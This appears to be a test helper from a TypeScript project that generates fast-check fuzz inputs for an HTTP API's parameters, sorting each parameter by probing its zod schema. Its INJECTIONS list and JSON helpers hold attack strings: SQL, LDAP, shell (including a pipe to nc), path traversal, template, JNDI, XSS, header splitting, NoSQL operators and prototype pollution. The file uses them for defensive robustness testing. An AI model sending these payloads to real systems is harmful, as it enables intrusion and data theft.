/**
 * fast-check arbitraries for the values of one declared parameter (http/params.ts), for the
 * whole-API property fuzz (api-property-fuzz.test.ts). The parameter's kind is found by probing its
 * own zod schema, not by reading zod internals, so a parameter type added to params.ts is still
 * fuzzed (as "string" or "other" at worst). Each kind has values a client might send (`plausible`,
 * which often pass the check so reads reach their handlers) and values it should not (`malformed`).
 */
import fc from "fast-check";
import { z } from "zod";
import { isFileParam } from "../src/http/params";

export type Kind =
  "file" | "enum" | "boolean" | "date" | "integer" | "idOrPath" | "array" | "string" | "other";

export interface ParamInfo {
  name: string;
  schema: z.ZodTypeAny;
  kind: Kind;
  /** The enum's values (kind "enum"). */
  options: string[];
  /** The shortest text the schema refuses as too long (strings), for "just too long" values. */
  tooLong: number;
}

const accepts = (schema: z.ZodTypeAny, value: unknown) => schema.safeParse(value).success;

function kindOf(schema: z.ZodTypeAny): { kind: Kind; options: string[] } {
  const ok = (v: unknown) => accepts(schema, v);
  if (isFileParam(schema)) return { kind: "file", options: [] };
  const inner = schema instanceof z.ZodOptional ? (schema.unwrap() as z.ZodTypeAny) : schema;
  if (inner instanceof z.ZodEnum) return { kind: "enum", options: inner.options.map(String) };
  if (ok("true") && !ok("maybe")) return { kind: "boolean", options: [] };
  if (ok("2024-01-31") && !ok("x")) return { kind: "date", options: [] };
  if (ok("12") && !ok("x")) return { kind: "integer", options: [] };
  if (ok("12") && ok("a/b") && !ok("a//b")) return { kind: "idOrPath", options: [] };
  if (ok(["1", "2"])) return { kind: "array", options: [] };
  if (ok("x")) return { kind: "string", options: [] };
  return { kind: "other", options: [] };
}

const known = new WeakMap<object, ParamInfo[]>();

/** The declared parameters of an endpoint, each with its kind (probed once per declaration). */
export function paramsOf(shape: Record<string, z.ZodTypeAny>): ParamInfo[] {
  let infos = known.get(shape);
  if (!infos) known.set(shape, (infos = probe(shape)));
  return infos;
}

function probe(shape: Record<string, z.ZodTypeAny>): ParamInfo[] {
  return Object.entries(shape).map(([name, schema]) => {
    const { kind, options } = kindOf(schema);
    const tooLong =
      [256, 1025, 4097, 10_001].find((n) => kind === "string" && !accepts(schema, "x".repeat(n))) ?? 10_001;
    return { name, schema, kind, options, tooLong };
  });
}

/** Injection strings: SQL, LDAP filter, shell, path traversal, templates, header splitting. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1; SELECT pg_sleep(5)--",
  "%' OR 1=1 --",
  "*)(uid=*))(|(uid=*",
  "(&(objectClass=*)(cn=*))",
  "admin)(|(password=*)",
  "$(touch /tmp/pwned)",
  "`id`; ls -la | nc x 1",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "{{7*7}}",
  "${jndi:ldap://x/a}",
  "<%= 7*7 %>",
  "#{7*7}",
  "<script>alert(1)</script>",
  "\r\nSet-Cookie: a=b",
  "__proto__",
  "constructor",
];

/** Unicode that trips naive code: RTL override, BOM, zero-width, combining marks, emoji, lone surrogate. */
export const UNICODE = [
  "\u202egnp.exe",
  "\uFEFFbom",
  "a\u200Bb\u200D",
  "e\u0301\u0301\u0301\u0301",
  "Zoë 山田 🚀👩‍👩‍👧‍👦",
  "\uD800",
  "１２３",
  "ǅ ß ﬃ İ",
];

const NUMBERS_OUT_OF_RANGE = [
  "0",
  "-1",
  "2147483648",
  "-2147483649",
  "9007199254740993",
  "99999999999999999999999",
  "1e309",
  "1.5",
  "0x10",
  "NaN",
  "Infinity",
  " 7 ",
  "+-1",
];

/** Text for a query string, form field or path segment (encoded by the request builder). */
export function malformedText(p: ParamInfo, huge: number): fc.Arbitrary<string> {
  const common = fc.oneof(
    fc.constantFrom(...INJECTIONS, ...UNICODE),
    fc.constantFrom("\u0000", "a\u0000b", "", " ", "null", "undefined", "[]", "{}", '{"a":1}'),
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.constantFrom(Math.min(p.tooLong, huge), huge).map((n) => "x".repeat(n)),
  );
  switch (p.kind) {
    case "integer":
    case "idOrPath":
      return fc.oneof(fc.constantFrom(...NUMBERS_OUT_OF_RANGE), fc.constantFrom("a//b", "/a", "a/"), common);
    case "boolean":
      return fc.oneof(fc.constantFrom("maybe", "2", "-1", "nil", "TRUE!", "yes please"), common);
    case "enum":
      return fc.oneof(
        fc.constantFrom(...p.options).map((o) => o.toUpperCase() + "\u0301"),
        fc.constantFrom(...p.options).map((o) => ` ${o}`),
        common,
      );
    case "date":
      return fc.oneof(
        fc.constantFrom("2024-02-30", "0000-00-00", "99999-01-01", "2024-1-1", "yesterday"),
        common,
      );
    default:
      return common;
  }
}

/** Values for a JSON body: every type where another is expected, huge and deep structures. */
export function malformedJson(p: ParamInfo): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(null, true, false, 1.5, -1, 0, 2 ** 53 + 2, 1e308, -1e308, [], {}, [[["deep"]]]),
    fc.constantFrom(
      { a: { b: { c: "\u0000" } } },
      ["\u0000"],
      { $ne: null },
      { $gt: "" },
      JSON.parse('{"__proto__":{"x":1}}') as unknown,
    ),
    fc.integer({ min: 2, max: 200 }).map((n) => JSON.parse("[".repeat(n) + "]".repeat(n)) as unknown),
    fc.constantFrom(1_000, 20_000).map((n) => Array.from({ length: n }, (_, i) => i)),
    fc.jsonValue({ maxDepth: 4 }),
    malformedText(p, 20_000),
  );
}

/** Values that often pass the parameter's check: reads with these reach the handler. */
export function plausibleText(p: ParamInfo): fc.Arbitrary<string> {
  switch (p.kind) {
    case "integer":
      return fc.oneof(
        fc.integer({ min: 1, max: 100 }).map(String),
        fc.constantFrom("10", "20", "30", "40", "50"),
      );
    case "idOrPath":
      return fc.oneof(fc.integer({ min: 1, max: 10_000 }).map(String), fc.constantFrom("a/b", "fuzz"));
    case "boolean":
      return fc.constantFrom("true", "false", "1", "0", "yes", "off");
    case "enum":
      return fc.constantFrom(...p.options);
    case "date":
      return fc.constantFrom("2030-01-01", "2024-02-29", "1970-01-01");
    case "array":
      return fc.constantFrom("1,2", "a", "", "1,,2");
    default:
      // Text that is valid as text: injections and unicode reach the finders' SQL and LDAP filters.
      return fc.oneof(
        fc.constantFrom(...INJECTIONS, ...UNICODE.filter((u) => u !== "\uD800")),
        fc.string({ unit: "grapheme", maxLength: 30 }),
        fc.string({ maxLength: 30 }),
      );
  }
}
